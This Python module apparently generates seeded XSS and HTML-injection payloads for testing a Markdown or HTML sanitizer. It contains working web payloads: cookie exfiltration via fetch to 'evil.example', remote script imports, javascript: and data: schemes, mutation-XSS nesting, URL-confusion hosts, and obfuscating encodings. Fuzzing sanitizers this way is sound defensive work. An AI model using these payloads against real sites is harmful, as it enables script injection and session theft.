"""Texts that want to run, load or deceive: a family of payloads, drawn from a seed.

Parts are combined, not listed: a tag with attributes and addresses, in some encoding and nesting,
within some construct of Markdown. What a payload would do, `attacked()` and requests to
`evil.example`, is what the tests watch for.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from html import escape
from typing import TypeAlias
from urllib.parse import quote

Chance: TypeAlias = random.Random


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


SCRIPTS = (
    "attacked()",
    "top.attacked()",
    "attacked``",
    "[].map.constructor('attacked()')()",
    "import('//evil.example/a.js')",
    "fetch('//evil.example/'+document.cookie)",
    "location='//evil.example/'",
    "setTimeout('attacked()')",
    "document.write('<img src=//evil.example/w>')",
)
TAGS = _words(
    "a abbr animate animatetransform annotation-xml area article audio base bdo body button canvas "
    "custom-x datalist details dialog div embed font foreignobject form frame frameset head html "
    "iframe image img input isindex keygen link listing map marquee math menu meta mglyph "
    "malignmark mi mtext noembed noframes noscript object option p param picture plaintext portal "
    "progress q rect script section select set slot source span style summary svg table tbody td "
    "template textarea title tr track u use video xmp xss"
)
EVENTS = _words(
    "onabort onanimationstart onauxclick onbeforetoggle onbegin onblur oncanplay onclick oncopy "
    "oncontentvisibilityautostatechange onerror onfocus onfocusin onhashchange oninput onload "
    "onloadstart onmessage onmouseenter onmouseover onpageshow onpointerenter onpointerrawupdate "
    "onresize onscroll onscrollend onsecuritypolicyviolation onstart ontoggle ontransitionend "
    "onunhandledrejection onwebkitanimationstart onwheel"
)
ADDRESS_ATTRIBUTES = _words(
    "action background cite code codebase data data-src formaction from href imagesrcset longdesc "
    "manifest ping poster profile src srcdoc srcset style to values xlink:href xml:base "
    "xmlns"
)
OTHER_ATTRIBUTES = (
    "autofocus",
    "contenteditable",
    "tabindex=1",
    "open",
    "is=x",
    "id=main",
    "name=forms",
    "class='md-code hl-k'",
    "style=animation-name:x",
    "style=position:fixed;inset:0",
    "http-equiv=refresh",
    "content='0;url=//evil.example'",
    "rel=stylesheet",
    "type=image",
    "attributename=href",
    "popover",
    "data-action=stop",
    "hx-get=//evil.example",
    "hx-on:load=attacked()",
    "target=_self",
    "accesskey=x",
)
OPENERS = (
    "<{}>",
    "<{}/>",
    "<{} //",
    "< {}>",
    "<{}\n>",
    "</{}>",
    "<{}",
    "<<{}>",
    "&lt;{}&gt;",
    "&#60;{}&#62;",
    "\uff1c{}\uff1e",
    "\\<{}>",
    "<\x00{}>",
    "<x:{}>",
)
# Where HTML's parser changes its mind: what is text on the way in is markup on the way out.
NESTS = (
    "{}",
    "<svg>{}</svg>",
    "<svg><style>{}</style></svg>",
    "<svg><desc>{}</desc></svg>",
    "<svg></p><style><a id='</style>{}'>",
    "<math><mtext><table><mglyph><style>{}",
    "<math><annotation-xml encoding='text/html'>{}",
    "<math><mi><!--</mi>-->{}</math>",
    "<form><math><mtext></form><form><mglyph><style>{}",
    "<noscript><p title='</noscript>{}'>",
    "<template>{}</template>",
    "<template shadowrootmode=open>{}",
    "<select><style>{}</style></select>",
    "<textarea></textarea>{}",
    "<title></title>{}",
    "<xmp></xmp>{}",
    "<table><td>{}",
    "<!--{}-->",
    "<!-->{}-->",
    "<!--><!-{}-->",
    "<![CDATA[{}]]>",
    "<?xml version='1.0'?>{}",
    "<!DOCTYPE x [<!ENTITY y '{}'>]>",
    "</code></pre>{}",
    "</p></div></main>{}",
    "<a title='{}'>",
    '<p data-x="{}">',
    "<p `={}`>",
    "<plaintext>{}",
)
SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "javascript&colon;{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    "\u00a0javascript:{}",
    "javascript\uff1a{}",
    "java\u200bscript:{}",
    "javascript://evil.example/%0a{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={}>",
    "blob:https://evil.example/{}",
    "view-source:javascript:{}",
    "filesystem:https://evil.example/{}",
    "feed:javascript:{}",
    "//evil.example/{}",
    "\\\\evil.example\\{}",
    "/\\evil.example/{}",
    "https:evil.example/{}",
    "https:///evil.example/{}",
    "https://evil.example/{}",
    "http://evil.example:80/{}",
    "https://good.example@evil.example/{}",
    "https://good.example\\@evil.example/{}",
    "https://good.example%2f@evil.example/{}",
    "https://ev\u0456l.example/{}",
    "https://evil\u3002example/{}",
    "https://evil.example/{}#attacked()",
    "mailto:a@evil.example?body={}",
    "ftp://evil.example/{}",
    "file:///etc/passwd#{}",
    "intent://evil.example/#Intent;scheme={};end",
    "?next=javascript:{}",
    "#{}",
)
# Of Markdown and what stands in for it; `{}` is the payload, `[]` an address of the family.
HOLDERS = (
    "{}",
    "before {} after",
    "**{}**",
    "*_~~{}~~_*",
    "# {}",
    "> {}",
    "> - 1. {}",
    "- [ ] {}",
    "1. {}",
    "    {}",
    "| a | {} |\n|---|---|\n| {} | b |",
    "`{}`",
    "`` ` {} ``",
    "```html\n{}\n```",
    "```{}\nx\n```",
    "~~~js {}\n{}",
    "[{}](https://b.example)",
    "[a](https://b.example '{}')",
    "[a](<{}>)",
    "[a](@@)",
    "[a](<@@>)",
    '[a](@@ "{}")',
    "![{}](@@)",
    "![a](@@ '{}')",
    "![![{}](@@)](@@)",
    "[![a](@@)](@@ '{}')",
    "<@@>",
    "@@",
    "[a]: @@ '{}'\n\n[a] ![a] [{}][a]",
    "[{}]: @@\n\n[{}]",
    "[a][{}]",
    "${}$",
    "$$\n{}\n$$",
    "\\({}\\)",
    "$\\text{{{}}}$",
    "$\\href{{@@}}{{{}}}$",
    "$\\style{{{}}}{{x}} \\class{{{}}}{{x}}$",
    "$\\begin{{array}}{{c}}{}\\end{{array}}$",
    "\\begin{{align}}\n{}\n\\end{{align}}",
    '{{"bbox_2d": [0, 0, 500, 500], "label": "{}"}}',
    '```json\n[{{"point_2d": [9, 9], "label": "{}"}}]\n```',
    "[^1]\n\n[^1]: {}",
    "a\\\n{}  \n{}",
    "&lt;b&gt;{}&#x3c;/b&#x3e;",
)
INVISIBLE = ("\u202e", "\u2067", "\u2066", "\u200b", "\u2060", "\ufeff", "\u00ad", "\U000e0041")


def payloads(seed: int, count: int) -> Iterator[str]:
    """Give this many texts; each seed gives others."""
    chance = random.Random(seed)
    for number in range(count):
        # Every holder in turn, so that even a few texts go through all of them.
        yield _held(chance, HOLDERS[number % len(HOLDERS)])


def _held(chance: Chance, holder: str) -> str:
    text = holder
    while "@@" in text:
        text = text.replace("@@", _braced(_address(chance)), 1)
    texts = [_nested(chance) for _ in range(text.count("{}"))]
    return text.format(*texts)


def _braced(text: str) -> str:
    return text.replace("{", "{{").replace("}", "}}")


def _nested(chance: Chance) -> str:
    text = _element(chance)
    for _ in range(chance.choice((0, 1, 1, 2))):
        text = chance.choice(NESTS).replace("{}", text)
    return chance.choice(_ENCODINGS)(chance, text)


def _element(chance: Chance) -> str:
    if chance.random() < 0.15:
        return f"<script>{chance.choice(SCRIPTS)}</script>"
    parts = [_cased(chance, chance.choice(TAGS))]
    parts += [_attribute(chance) for _ in range(chance.randint(1, 3))]
    separator = chance.choice((" ", " ", "/", "\t", "\f", " / "))
    return chance.choice(OPENERS).replace("{}", separator.join(parts))


def _attribute(chance: Chance) -> str:
    kind = chance.random()
    if kind < 0.45:
        name, value = chance.choice(EVENTS), chance.choice(SCRIPTS)
    elif kind < 0.8:
        name, value = chance.choice(ADDRESS_ATTRIBUTES), _address(chance)
    else:
        return chance.choice(OTHER_ATTRIBUTES)
    mark = chance.choice(("", "'", '"', "`", "\u201c"))
    equals = chance.choice(("=", " = ", "=\n", "\x00="))
    return f"{_cased(chance, name)}{equals}{mark}{value}{mark}"


def _address(chance: Chance) -> str:
    return chance.choice(SCHEMES).replace("{}", chance.choice(SCRIPTS))


def _cased(chance: Chance, word: str) -> str:
    return chance.choice((word, word, word.upper(), word.swapcase().title()))


def _plain(_: Chance, text: str) -> str:
    return text


def _entities(chance: Chance, text: str) -> str:
    form = chance.choice(("&#{};", "&#{}", "&#x{:x};", "&#0000{};"))
    return "".join(form.format(ord(char)) if chance.random() < 0.3 else char for char in text)


def _escaped(_: Chance, text: str) -> str:
    return escape(text)


def _escaped_twice(_: Chance, text: str) -> str:
    return escape(escape(text))


def _percent(_: Chance, text: str) -> str:
    return quote(text)


def _backslashed(chance: Chance, text: str) -> str:
    return "".join("\\" * (chance.random() < 0.15) + char for char in text)


def _sprinkled(chance: Chance, text: str) -> str:
    """Put in what nobody sees."""
    return "".join(chance.choice(INVISIBLE) * (chance.random() < 0.1) + char for char in text)


_ENCODINGS: tuple[Callable[[Chance, str], str], ...] = (
    _plain,
    _plain,
    _plain,
    _entities,
    _escaped,
    _escaped_twice,
    _percent,
    _backslashed,
    _sprinkled,
)
